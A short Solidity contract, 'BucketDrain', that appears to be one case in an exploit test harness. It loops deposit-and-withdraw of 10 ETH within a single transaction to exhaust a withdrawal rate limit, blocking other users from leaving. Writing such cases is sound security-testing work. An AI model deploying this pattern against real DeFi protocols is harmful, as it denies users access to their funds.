// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title In and out until nobody else can leave
/// @notice Turns the same ETH round in one transaction until the limit refuses it.
contract BucketDrain is Exploit {
    uint256 private constant LEAST_GAS = 3_000_000;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number != 0) return;
        while (gasleft() > LEAST_GAS) {
            try this.inAndOut() {} catch {
                return;
            }
        }
    }

    /// @notice Puts ETH in and takes it out again, both or neither.
    function inAndOut() external {
        _exit(_deposit(10 ether));
    }
}
